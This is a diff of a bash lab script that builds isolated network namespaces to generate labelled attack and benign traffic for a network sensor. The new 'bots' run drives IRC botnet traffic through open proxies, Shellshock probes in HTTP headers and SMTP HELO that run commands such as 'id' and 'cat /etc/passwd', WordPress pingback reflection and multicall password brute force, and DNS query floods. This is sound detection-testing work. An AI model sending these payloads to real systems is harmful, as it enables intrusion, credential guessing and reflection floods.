@@ -7,30 +7,42 @@
 #                                   vxlan or erspan (remote SPAN: see below)
 #   scripts/lab.sh attack           abuse them from the attacker (open proxy, open SOCKS,
 #                                   CONNECT to SMTP, open relay, NTP mode 6, monlist replay)
-#   scripts/lab.sh benign           ordinary use only (web page, local mail, time sync)
+#   scripts/lab.sh bots             the rest of the stepping-stone story: IRC bots through the
+#                                   proxies, on odd ports, obeying their herder, assembling;
+#                                   Shellshock probes; WordPress pingback reflection and
+#                                   multicall brute force; bot DNS volume and MX lookups
+#   scripts/lab.sh benign           ordinary use only (web page, local mail, time sync, an
+#                                   IRC chat, a WordPress visit, a few DNS lookups)
 #   scripts/lab.sh down             stop the daemons, remove namespaces and state
-#   scripts/lab.sh capture [OUTDIR] up, record attack and benign from flmir0 into
-#                                   OUTDIR/lab-attack.pcap and OUTDIR/lab-benign.pcap, down
+#   scripts/lab.sh capture [OUTDIR [RUN...]]  up, record each run (attack, bots, benign by
+#                                   default) from flmir0 into OUTDIR/lab-RUN.pcap, down
 #   scripts/lab.sh versions         versions of the daemons and clients (dpkg)
-#   scripts/lab.sh supports MIRROR  exit 0 if this kernel can build that mirror, 3 if not
+#   scripts/lab.sh supports MIRROR  exit 0 if this machine can build that mirror, 3 if not
 #
 # Layout (all inside namespaces this script creates; nothing leaves the machine):
 #
 #   fl-att  att0  10.77.1.10/24 (may relay), 10.77.2.10/24 (may not)
+#                 ngircd :6667 :5558 (the herder's IRC server), a web page on 10.77.2.10:80
+#                 (the victim of pingback reflection)
 #             |
 #   fl-br   p-att --- br0 --- p-vic      tc: ingress of p-att and p-vic mirrored to flmir1
 #                                               |
 #   root ns                                 flmir0  <- the sensor listens here
 #             |
 #   fl-vic  vic0  10.77.0.2/24  squid :3128 :8080, danted :1080, postfix :25,
-#                               nginx :80, ntpd (NTPsec) :123/udp
+#                               nginx :80, ntpd (NTPsec) :123/udp, dnsmasq :53,
+#                               apache2 + WordPress + MariaDB :8081
+#                 10.77.0.3, .4, .11-.20/24: more home hosts (a person on IRC, a bot on an
+#                               odd port, a botnet's members)
 #
 # Mirroring only the ingress of the two bridge ports shows every frame once, in both
 # directions.
 #
 # Remote SPAN (MIRROR vxlan or erspan): the same tc mirror sends the frames into a Linux
 # vxlan device (VNI 4242, UDP 4789) or erspan device (type II, session 100) in fl-br, whose
-# underlay is a veth pair towards a collector namespace where the sensor listens:
+# underlay is a veth pair towards a collector namespace where the sensor listens. A kernel
+# built without erspan devices (no CONFIG_NET_IPGRE) gets the same ERSPAN II frames from a
+# user-space relay instead (scripts/lab/erspan-relay.py; FL_ERSPAN=relay forces it):
 #
 #   fl-br   fltun1 10.77.250.1/30  ----  fltun0 (no address)  fl-col   <- the sensor, here
 #
@@ -54,6 +66,13 @@ VIC_IF=vic0
 ATT_IP=10.77.1.10
 ATT_IP2=10.77.2.10
 VIC_IP=10.77.0.2
+VIC_PERSON=10.77.0.3
+VIC_ODD=10.77.0.4
+VIC_BOTNET=(10.77.0.11 10.77.0.12 10.77.0.13 10.77.0.14 10.77.0.15 10.77.0.16 10.77.0.17 10.77.0.18
+  10.77.0.19 10.77.0.20)
+# WordPress's configuration is seen by the victim's namespace only (ip netns exec bind-mounts
+# what /etc/netns/NS/ holds over /etc).
+NETNS_ETC=/etc/netns/fl-vic
 MIR_ROOT=flmir0
 MIR_BR=flmir1
 NS_COL=fl-col
@@ -63,6 +82,10 @@ TUN_BR_IP=10.77.250.1
 TUN_COL_IP=10.77.250.2
 VXLAN_DEV=flvx0
 ERSPAN_DEV=fler0
+# Where the kernel has no erspan device: mirror into this veth pair, relay in user space.
+RELAY_IN=flmer0
+RELAY_OUT=flmer1
+ERSPAN_IMPL=kernel
 VNI=4242
 ERSPAN_SESSION=100
 
@@ -104,7 +127,9 @@ show_logs() {
   local f
   [ -d "$STATE" ] || return 0
   for f in "$STATE"/squid/cache.log "$STATE"/squid/access.log "$STATE"/dante/danted.log \
-    "$STATE"/postfix/maillog "$STATE"/nginx/error.log "$STATE"/ntp/ntpd.start.log "$STATE"/ntp/ntpd.log; do
+    "$STATE"/postfix/maillog "$STATE"/nginx/error.log "$STATE"/ntp/ntpd.start.log "$STATE"/ntp/ntpd.log \
+    "$STATE"/ngircd/ngircd.log "$STATE"/dnsmasq/dnsmasq.log "$STATE"/apache/error.log "$STATE"/mysql/mysql.err \
+    "$STATE"/victim-web/http.log; do
     [ -s "$f" ] || continue
     printf '\n----- last lines of %s -----\n' "$f" >&2
     tail -n 15 "$f" >&2 || true
@@ -118,16 +143,21 @@ on_error() {
   exit "$rc"
 }
 
-# Fill a template from scripts/lab/: @STATE@, @VIC_IP@, @VIC_IF@.
+# Fill a template from scripts/lab/: @STATE@, @VIC_IP@, @VIC_IF@, @ATT_IP@, @PHP_VERSION@.
 render() {
-  sed -e "s|@STATE@|$STATE|g" -e "s|@VIC_IP@|$VIC_IP|g" -e "s|@VIC_IF@|$VIC_IF|g" "$TPL/$1" >"$2"
+  local php
+  php=$(php -r 'echo PHP_MAJOR_VERSION.".".PHP_MINOR_VERSION;' 2>/dev/null || echo 8.2)
+  sed -e "s|@STATE@|$STATE|g" -e "s|@VIC_IP@|$VIC_IP|g" -e "s|@VIC_IF@|$VIC_IF|g" \
+    -e "s|@ATT_IP@|$ATT_IP|g" -e "s|@PHP_VERSION@|$php|g" "$TPL/$1" >"$2"
 }
 
 # ---------------------------------------------------------------- packages
 
 ensure_packages() {
   local missing=() p
-  for p in squid dante-server postfix ntpsec swaks ncat curl tcpreplay tcpdump iproute2 ethtool; do
+  for p in squid dante-server postfix ntpsec swaks ncat curl tcpreplay tcpdump iproute2 ethtool \
+    ngircd dnsmasq-base bind9-dnsutils python3 wordpress apache2 libapache2-mod-php php-mysql php-xml \
+    mariadb-server; do
     pkg_installed "$p" || missing+=("$p")
   done
   if ! pkg_installed nginx-light && ! pkg_installed nginx && ! command -v nginx >/dev/null; then
@@ -212,6 +242,10 @@ setup_network() {
   in_ns "$NS_ATT" ip addr add "$ATT_IP2/24" dev "$ATT_IF"
   in_ns "$NS_ATT" ip route add 10.77.0.0/24 dev "$ATT_IF" src "$ATT_IP"
   in_ns "$NS_VIC" ip addr add "$VIC_IP/24" dev "$VIC_IF"
+  local a
+  for a in "$VIC_PERSON" "$VIC_ODD" "${VIC_BOTNET[@]}"; do
+    in_ns "$NS_VIC" ip addr add "$a/24" dev "$VIC_IF"
+  done
   in_ns "$NS_VIC" ip route add 10.77.1.0/24 dev "$VIC_IF"
   in_ns "$NS_VIC" ip route add 10.77.2.0/24 dev "$VIC_IF"
 
@@ -236,7 +270,14 @@ setup_network() {
 mirror_dev() {
   case "$MIRROR" in
     vxlan) echo "$VXLAN_DEV" ;;
-    erspan) echo "$ERSPAN_DEV" ;;
+    erspan)
+      # Later commands (attack) learn how `up` built the mirror from the state directory.
+      if [ "$ERSPAN_IMPL" = relay ] || [ "$(cat "$STATE/erspan-impl" 2>/dev/null)" = relay ]; then
+        echo "$RELAY_IN"
+      else
+        echo "$ERSPAN_DEV"
+      fi
+      ;;
     *) echo "$MIR_BR" ;;
   esac
 }
@@ -267,6 +308,10 @@ setup_remote_span() {
   local mac
   mac=$(in_ns "$NS_COL" cat "/sys/class/net/$TUN_COL/address")
   in_ns "$NS_BR" ip neigh replace "$TUN_COL_IP" lladdr "$mac" dev "$TUN_BR" nud permanent
+  if [ "$MIRROR" = erspan ] && { [ "${FL_ERSPAN:-}" = relay ] || ! kernel_has erspan; }; then
+    start_erspan_relay "$mac"
+    return
+  fi
   local dev
   dev=$(mirror_dev)
   # shellcheck disable=SC2046
@@ -274,21 +319,62 @@ setup_remote_span() {
     die "this kernel cannot create a $MIRROR device (see: $0 supports $MIRROR)"
   in_ns "$NS_BR" ethtool -K "$dev" tso off gso off gro off >/dev/null 2>&1 || true
   in_ns "$NS_BR" ip link set "$dev" up
+  echo kernel >"$STATE/erspan-impl"
 }
 
-# supports MIRROR: whether this kernel can build that mirror (vxlan and erspan need their
-# drivers: CONFIG_VXLAN, CONFIG_NET_IPGRE with ERSPAN). Tried in a scratch namespace.
+# ERSPAN without the kernel's erspan device: tc mirrors into one end of a veth pair and
+# scripts/lab/erspan-relay.py puts each frame on the underlay in the same GRE/ERSPAN II
+# encapsulation a Linux erspan device (type II, seq, session ERSPAN_SESSION) would.
+start_erspan_relay() {
+  local collector_mac=$1 ready="$STATE/erspan-relay.ready"
+  ERSPAN_IMPL=relay
+  log "no erspan device in this kernel: ERSPAN II encapsulated in user space ($TPL/erspan-relay.py)"
+  in_ns "$NS_BR" ip link add "$RELAY_IN" type veth peer name "$RELAY_OUT"
+  local ifc
+  for ifc in "$RELAY_IN" "$RELAY_OUT"; do
+    in_ns "$NS_BR" ip link set "$ifc" mtu 9000
+    in_ns "$NS_BR" ethtool -K "$ifc" tso off gso off gro off >/dev/null 2>&1 || true
+    in_ns "$NS_BR" ip link set "$ifc" up
+  done
+  rm -f "$ready"
+  # ip netns exec execs python3: $! is the relay's own pid.
+  ip netns exec "$NS_BR" python3 "$TPL/erspan-relay.py" --in "$RELAY_OUT" --out "$TUN_BR" \
+    --local "$TUN_BR_IP" --remote "$TUN_COL_IP" --remote-mac "$collector_mac" \
+    --session "$ERSPAN_SESSION" --index 7 --ready "$ready" \
+    </dev/null >>"$STATE/erspan-relay.log" 2>&1 &
+  echo $! >"$STATE/erspan-relay.pid"
+  for _ in $(seq 1 50); do
+    [ -e "$ready" ] && break
+    kill -0 "$(cat "$STATE/erspan-relay.pid")" 2>/dev/null || die "erspan relay died: $(cat "$STATE/erspan-relay.log")"
+    sleep 0.1
+  done
+  [ -e "$ready" ] || die "erspan relay did not start within 5 s"
+  echo relay >"$STATE/erspan-impl"
+}
+
+# supports MIRROR: whether this machine can build that mirror. vxlan needs CONFIG_VXLAN;
+# erspan uses the kernel's device (CONFIG_NET_IPGRE) where there is one, else the relay.
 cmd_supports() {
-  local mirror=${1:-plain} ns=fl-probe-$$ rc=0
+  local mirror=${1:-plain}
   [ "$mirror" = plain ] && return 0
   [ "$(id -u)" -eq 0 ] || die "must run as root"
-  local args
-  args=$(tunnel_args "$mirror")
+  kernel_has "$mirror" && return 0
+  if [ "$mirror" = erspan ] && command -v python3 >/dev/null; then
+    log "this kernel cannot create erspan devices ($(uname -r)): the lab encapsulates ERSPAN II in user space"
+    return 0
+  fi
+  log "this kernel cannot create $mirror devices ($(uname -r))"
+  return 3
+}
+
+# kernel_has MIRROR: whether this kernel can create that tunnel device.
+kernel_has() {
+  local ns=fl-probe-$$ rc=0 args
+  args=$(tunnel_args "$1")
   ip netns add "$ns"
   # shellcheck disable=SC2086
   ip netns exec "$ns" ip link add probe0 type $args 2>/dev/null || rc=3
   ip netns del "$ns"
-  [ $rc -eq 0 ] || log "this kernel cannot create $mirror devices ($(uname -r))"
   return $rc
 }
 
@@ -298,12 +384,17 @@ prepare_state() {
   mkdir -p "$STATE"
   touch "$STATE/$MARKER"
   chmod 755 "$STATE"
-  mkdir -p "$STATE"/{squid,dante,nginx,ntp,www,out} "$STATE"/postfix/{etc,spool,data,mail}
+  mkdir -p "$STATE"/{squid,dante,nginx,ntp,www,out,ngircd,dnsmasq,apache,victim-web} \
+    "$STATE"/postfix/{etc,spool,data,mail} "$STATE"/mysql/{data,run} "$STATE"/wp/mu-plugins
   chown proxy:proxy "$STATE/squid"
   chown postfix:postfix "$STATE/postfix/data"
   chmod 1777 "$STATE/postfix/mail"
   cp "$TPL/index.html" "$STATE/www/index.html"
   chmod -R a+rX "$STATE/www"
+  chown irc:irc "$STATE/ngircd"
+  chown nobody:nogroup "$STATE/dnsmasq"
+  chown -R mysql:mysql "$STATE/mysql"
+  printf '<html><body>the victim of a pingback flood</body></html>\n' >"$STATE/victim-web/index.html"
 }
 
 start_nginx() {
@@ -339,6 +430,59 @@ start_postfix() {
   in_ns "$NS_VIC" postfix -c "$etc" start
 }
 
+start_ngircd() {
+  render ngircd.conf.in "$STATE/ngircd/ngircd.conf"
+  in_ns "$NS_ATT" ngircd --configtest -f "$STATE/ngircd/ngircd.conf" >"$STATE/ngircd/configtest.log" 2>&1 ||
+    {
+      tail -n 20 "$STATE/ngircd/configtest.log" >&2
+      die "ngircd rejected its configuration"
+    }
+  in_ns "$NS_ATT" ngircd -f "$STATE/ngircd/ngircd.conf" >"$STATE/ngircd/ngircd.log" 2>&1
+}
+
+start_dnsmasq() {
+  in_ns "$NS_VIC" dnsmasq --no-resolv --no-hosts --bind-interfaces --listen-address="$VIC_IP" \
+    --except-interface=lo --address=/victim.lab/"$VIC_IP" --mx-host=victim.lab,mail.victim.lab,10 \
+    --pid-file="$STATE/dnsmasq/dnsmasq.pid" --log-facility="$STATE/dnsmasq/dnsmasq.log" --user=nobody
+}
+
+# The pingback flood's victim: a page on the attacker's second address.
+start_victim_web() {
+  in_ns "$NS_ATT" python3 -m http.server 80 --bind "$ATT_IP2" --directory "$STATE/victim-web" \
+    >"$STATE/victim-web/http.log" 2>&1 &
+  echo $! >"$STATE/victim-web/http.pid"
+}
+
+# Debian's WordPress on apache2 (mod_php) with its own MariaDB, installed through its own
+# installer as a visitor would; a post open to pingbacks is its first.
+start_wordpress() {
+  local db="$STATE/mysql" sock="$STATE/mysql/run/mysqld.sock"
+  mariadb-install-db --user=mysql --datadir="$db/data" --auth-root-authentication-method=socket \
+    --skip-test-db >"$db/install-db.log" 2>&1 || die "mariadb-install-db failed"
+  in_ns "$NS_VIC" mariadbd --user=mysql --datadir="$db/data" --socket="$sock" \
+    --pid-file="$db/run/mysqld.pid" --skip-networking --log-error="$db/mysql.err" >/dev/null 2>&1 &
+  for _ in $(seq 1 50); do
+    [ -S "$sock" ] && break
+    sleep 0.2
+  done
+  [ -S "$sock" ] || die "mariadbd did not start"
+  in_ns "$NS_VIC" mariadb --socket="$sock" -e \
+    "CREATE DATABASE wp; CREATE USER 'wp'@'localhost' IDENTIFIED BY 'wp'; GRANT ALL ON wp.* TO 'wp'@'localhost';"
+  mkdir -p "$NETNS_ETC/wordpress"
+  render wp-config-lab.php.in "$NETNS_ETC/wordpress/config-lab.php"
+  chmod 644 "$NETNS_ETC/wordpress/config-lab.php"
+  cp "$TPL/wp-lab-plugin.php" "$STATE/wp/mu-plugins/lab.php"
+  chmod -R a+rX "$STATE/wp"
+  render apache2.conf.in "$STATE/apache/apache2.conf"
+  in_ns "$NS_VIC" apache2 -f "$STATE/apache/apache2.conf" -k start
+  wait_listen apache2 tcp 8081
+  local out="$STATE/apache/install.html" rc=0
+  in_ns "$NS_VIC" curl -sS --max-time 30 -o "$out" -w '%{http_code}' -H 'Host: wp.victim.lab:8081' \
+    --data 'weblog_title=Lab&user_name=admin&admin_password=fumidai-lab-pw&admin_password2=fumidai-lab-pw&pw_weak=1&admin_email=admin%40victim.lab&blog_public=0' \
+    "http://$VIC_IP:8081/wp-admin/install.php?step=2" >"$STATE/apache/install.code" 2>&1 || rc=$?
+  grep -q '^200$' "$STATE/apache/install.code" || die "WordPress did not install (curl $rc, $(cat "$STATE/apache/install.code"))"
+}
+
 start_ntpd() {
   render ntp.conf.in "$STATE/ntp/ntp.conf"
   in_ns "$NS_VIC" ntpd -c "$STATE/ntp/ntp.conf" -p "$STATE/ntp/ntpd.pid" -l "$STATE/ntp/ntpd.log" \
@@ -347,9 +491,13 @@ start_ntpd() {
 
 # Wait (bounded) until something listens on proto/port inside the victim namespace.
 wait_listen() {
-  local name=$1 proto=$2 port=$3
+  wait_listen_in "$NS_VIC" "$@"
+}
+
+wait_listen_in() {
+  local ns=$1 name=$2 proto=$3 port=$4
   for _ in $(seq 1 40); do
-    if in_ns "$NS_VIC" ss -Hln"${proto:0:1}" "sport = :$port" | grep -q .; then
+    if in_ns "$ns" ss -Hln"${proto:0:1}" "sport = :$port" | grep -q .; then
       log "$name listens on $proto/$port"
       return 0
     fi
@@ -404,6 +552,14 @@ cmd_down() {
   stop_pidfile danted "$STATE/dante/danted.pid"
   stop_pidfile nginx "$STATE/nginx/nginx.pid"
   stop_pidfile ntpd "$STATE/ntp/ntpd.pid"
+  stop_pidfile erspan-relay "$STATE/erspan-relay.pid"
+  stop_pidfile ngircd "$STATE/ngircd/ngircd.pid"
+  stop_pidfile dnsmasq "$STATE/dnsmasq/dnsmasq.pid"
+  stop_pidfile victim-web "$STATE/victim-web/http.pid"
+  stop_pidfile apache2 "$STATE/apache/apache2.pid"
+  stop_pidfile mariadbd "$STATE/mysql/run/mysqld.pid"
+  rm -f "$NETNS_ETC/wordpress/config-lab.php"
+  rmdir "$NETNS_ETC/wordpress" "$NETNS_ETC" 2>/dev/null || true
   local ns
   for ns in "$NS_COL" "$NS_VIC" "$NS_ATT" "$NS_BR"; do
     kill_ns_pids "$ns"
@@ -441,12 +597,20 @@ cmd_up() {
   start_dante
   start_postfix
   start_ntpd
+  start_ngircd
+  start_dnsmasq
+  start_victim_web
+  start_wordpress
   wait_listen nginx tcp 80
   wait_listen squid tcp 3128
   wait_listen squid tcp 8080
   wait_listen danted tcp 1080
   wait_listen postfix tcp 25
   wait_listen ntpd udp 123
+  wait_listen dnsmasq udp 53
+  wait_listen_in "$NS_ATT" ngircd tcp 6667
+  wait_listen_in "$NS_ATT" ngircd tcp 5558
+  wait_listen_in "$NS_ATT" victim-web tcp 80
   if [ "$MIRROR" = plain ]; then
     log "lab is up: sensor interface $MIR_ROOT (root namespace)"
   else
@@ -481,10 +645,15 @@ verdict() {
 # check NAME PATTERN CMD...: run CMD in the attacker namespace (bounded by `timeout`),
 # keep its transcript in $STATE/out/NAME.txt, and require PATTERN (grep -E) in it.
 check() {
-  local name=$1 pattern=$2 rc=0
-  shift 2
+  check_in "$NS_ATT" "$@"
+}
+
+# check_in NS NAME PATTERN CMD...: the same, in namespace NS.
+check_in() {
+  local ns=$1 name=$2 pattern=$3 rc=0
+  shift 3
   local out="$STATE/out/$name.txt"
-  in_ns "$NS_ATT" timeout 30 "$@" >"$out" 2>&1 </dev/null || rc=$?
+  in_ns "$ns" timeout 30 "$@" >"$out" 2>&1 </dev/null || rc=$?
   verdict "$name" "$pattern" "$out" "$rc"
 }
 
@@ -587,9 +756,89 @@ cmd_attack() {
   finish attack
 }
 
+IRCBOT=(python3 "$TPL/ircbot.py")
+
+cmd_bots() {
+  require_up
+  local b=("${IRCBOT[@]}")
+  log "bots: IRC through squid (CONNECT to :6667) and dante (SOCKS5 to :5558)"
+  check irc-via-squid 'BOT DONE' "${b[@]}" bot "$ATT_IP" 6667 'DEU|2K|55321' '#c2' k3y \
+    --http-proxy "$VIC_IP:8080"
+  check irc-via-dante 'BOT DONE' "${b[@]}" bot "$ATT_IP" 5558 'RUS|XP|77123' '#c2' k3y \
+    --socks5 "$VIC_IP:1080"
+
+  log "bots: a bot on the proxy host obeys its herder's .spam, reports, opens SMTP connections"
+  local herder_out="$STATE/out/irc-herder.txt" hrc=0
+  in_ns "$NS_ATT" timeout 30 "${b[@]}" herder "$ATT_IP" 6667 herder '#c2' k3y \
+    ".spam start http://$ATT_IP/list.txt" 'USA|XP|04012' >"$herder_out" 2>&1 </dev/null &
+  local herder_pid=$!
+  sleep 1
+  check_in "$NS_VIC" irc-bot-obeys 'SMTP RUN 3' "${b[@]}" bot "$ATT_IP" 6667 'USA|XP|04012' '#c2' k3y \
+    --obey --smtp "$ATT_IP:25:3"
+  wait "$herder_pid" || hrc=$?
+  verdict irc-herder 'PRIVMSG #c2 :\[SPAM\]' "$herder_out" "$hrc"
+
+  log "bots: IRC on an odd port (5558) from a home host"
+  check_in "$NS_VIC" irc-odd-port 'BOT DONE' "${b[@]}" bot "$ATT_IP" 5558 lurker '#lounge' - --bind "$VIC_ODD"
+
+  log "bots: ${#VIC_BOTNET[@]} home hosts join #b0tz with its key"
+  local a k=0
+  for a in "${VIC_BOTNET[@]}"; do
+    k=$((k + 1))
+    check_in "$NS_VIC" "irc-botnet-$k" 'BOT DONE' "${b[@]}" bot "$ATT_IP" 6667 "[USA|XP]0400$k" '#b0tz' k3y \
+      --bind "$a"
+  done
+
+  log "bots: Shellshock probes (curl to nginx, swaks to postfix)"
+  local url="http://$VIC_IP/cgi-bin/status"
+  check shellshock-ua '^HTTP/1\.[01] ' curl -sS -i --max-time 10 -A '() { :; }; /bin/bash -c "id"' "$url"
+  check shellshock-referer '^HTTP/1\.[01] ' curl -sS -i --max-time 10 -e '() { :; }; echo; /bin/cat /etc/passwd' "$url"
+  check shellshock-cookie '^HTTP/1\.[01] ' curl -sS -i --max-time 10 -H 'Cookie: () { :;}; ping -c 1 10.77.1.10' "$url"
+  check shellshock-uri '^HTTP/1\.[01] ' curl -sS -i --max-time 10 \
+    "$url?x=%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fusr%2Fbin%2Fid"
+  check shellshock-6278 '^HTTP/1\.[01] ' curl -sS -i --max-time 10 \
+    -H 'X-Api-Version: () { _; } >_[$($())] { echo hi; id; }' "$url"
+  check shellshock-helo '<-  220 mail\.victim\.lab' swaks --timeout 10 --server "$VIC_IP" --quit-after HELO \
+    --helo '() { :; }; /bin/bash -c id'
+  check shellshock-header '<-  250 .*queued as' swaks "${SWAKS_COMMON[@]}" --server "$VIC_IP" \
+    --from probe@att.example --to postmaster@victim.lab --header 'Subject: () { :; }; echo pwned'
+
+  log "bots: WordPress pingback reflection (12 pingbacks naming $ATT_IP2) and multicall brute force"
+  local i rpc="http://$VIC_IP:8081/xmlrpc.php" host='Host: wp.victim.lab:8081'
+  for i in $(seq 1 12); do
+    printf '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://%s/?%d</string></value></param><param><value><string>http://wp.victim.lab:8081/?p=1</string></value></param></params></methodCall>' \
+      "$ATT_IP2" "$((1000 + i * 37))" >"$STATE/out/pingback-$i.xml"
+  done
+  for i in $(seq 1 12); do
+    in_ns "$NS_ATT" timeout 30 curl -sS --max-time 20 -H "$host" -H 'Content-Type: text/xml' \
+      --data-binary "@$STATE/out/pingback-$i.xml" "$rpc" >"$STATE/out/pingback-$i.txt" 2>&1 </dev/null &
+  done
+  wait
+  verdict pingbacks 'methodResponse' "$STATE/out/pingback-12.txt" 0
+  verdict pingback-fetched 'GET /\?[0-9]+ HTTP' "$STATE/victim-web/http.log" 0
+  {
+    printf '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>'
+    for i in $(seq 1 25); do
+      printf '<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>guess%d</string></value></data></array></value></member></struct></value>' "$i"
+    done
+    printf '</data></array></value></param></params></methodCall>'
+  } >"$STATE/out/multicall.xml"
+  check wp-multicall 'Incorrect username or password' curl -sS --max-time 20 -H "$host" \
+    -H 'Content-Type: text/xml' --data-binary "@$STATE/out/multicall.xml" "$rpc"
+
+  log "bots: DNS: 60 MX lookups from one host, 1,001 queries from another (lab limit 1,000), MX over TCP"
+  for i in $(seq 1 60); do echo "d$i.example.net MX"; done >"$STATE/out/mx.batch"
+  for i in $(seq 1 1001); do echo "h$i.victim.lab A"; done >"$STATE/out/volume.batch"
+  check dns-mx 'status: (REFUSED|NOERROR|NXDOMAIN)' dig -b "$ATT_IP" "@$VIC_IP" +tries=1 +time=2 -f "$STATE/out/mx.batch"
+  check dns-volume 'h1001\.victim\.lab' dig -b "$ATT_IP2" "@$VIC_IP" +tries=1 +time=2 +noall +answer \
+    -f "$STATE/out/volume.batch"
+  check dns-tcp 'status: NOERROR' dig -b "$ATT_IP" "@$VIC_IP" +tcp victim.lab MX
+  finish bots
+}
+
 cmd_benign() {
   require_up
-  log "benign: web page, local mail, time sync"
+  log "benign: web page, local mail, time sync, an IRC chat, a WordPress visit, DNS"
   check web-direct '^HTTP/1\.[01] 200' curl -sS -i --max-time 10 "http://$VIC_IP/"
   check mail-local '<-  250 .*queued as' \
     swaks "${SWAKS_COMMON[@]}" --server "$VIC_IP" --local-interface "$ATT_IP" \
@@ -599,13 +848,23 @@ cmd_benign() {
   else
     check time-sync "$VIC_IP" sntp -t 5 "$VIC_IP"
   fi
+  check web-parentheses '^HTTP/1\.[01] 200' curl -sS -i --max-time 10 \
+    -A 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0' \
+    -b '__utmz=1.2.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none)' "http://$VIC_IP/?q=(a)%20{b}"
+  check_in "$NS_VIC" irc-chat 'CHAT DONE' "${IRCBOT[@]}" chat "$ATT_IP" 6667 alice '#chat' 'hello (all) {:}' \
+    --bind "$VIC_PERSON"
+  check wp-visit '^HTTP/1\.[01] 200' curl -sS -i --max-time 20 -H 'Host: wp.victim.lab:8081' \
+    -H 'Content-Type: text/xml' --data '<?xml version="1.0"?><methodCall><methodName>demo.sayHello</methodName><params></params></methodCall>' \
+    "http://$VIC_IP:8081/xmlrpc.php"
+  check dns-lookup 'status: NOERROR' dig "@$VIC_IP" +tries=1 +time=2 victim.lab A
   finish benign
 }
 
 # ---------------------------------------------------------------- capture / versions
 
 VERSION_PKGS=(squid dante-server postfix nginx-light nginx ntpsec ntpsec-ntpdig sntp ntpsec-ntpq
-  swaks ncat curl tcpreplay tcpdump iproute2 ethtool)
+  swaks ncat curl tcpreplay tcpdump iproute2 ethtool ngircd dnsmasq-base bind9-dnsutils wordpress
+  apache2 libapache2-mod-php php-mysql php-xml mariadb-server python3)
 
 cmd_versions() {
   local p
@@ -645,12 +904,15 @@ stop_tcpdump() {
 
 cmd_capture() {
   local outdir=${1:-$PWD/lab-capture}
+  shift || true
+  local runs=("$@")
+  [ ${#runs[@]} -gt 0 ] || runs=(attack bots benign)
   mkdir -p "$outdir"
   outdir=$(cd "$outdir" && pwd)
   trap 'stop_tcpdump; cmd_down' EXIT
   cmd_up plain
   local run rc=0
-  for run in attack benign; do
+  for run in "${runs[@]}"; do
     log "capture: recording $run into $outdir/lab-$run.pcap"
     start_tcpdump "$outdir/lab-$run.pcap"
     rc=0
@@ -680,10 +942,14 @@ case "${1:-}" in
   down) cmd_down ;;
   attack) cmd_attack ;;
   benign) cmd_benign ;;
-  capture) cmd_capture "${2:-}" ;;
+  bots) cmd_bots ;;
+  capture)
+    shift
+    cmd_capture "$@"
+    ;;
   versions) cmd_versions ;;
   *)
-    sed -n '2,16p' "$0" | sed 's/^# \{0,1\}//' >&2
+    sed -n '2,20p' "$0" | sed 's/^# \{0,1\}//' >&2
     exit 2
     ;;
 esac
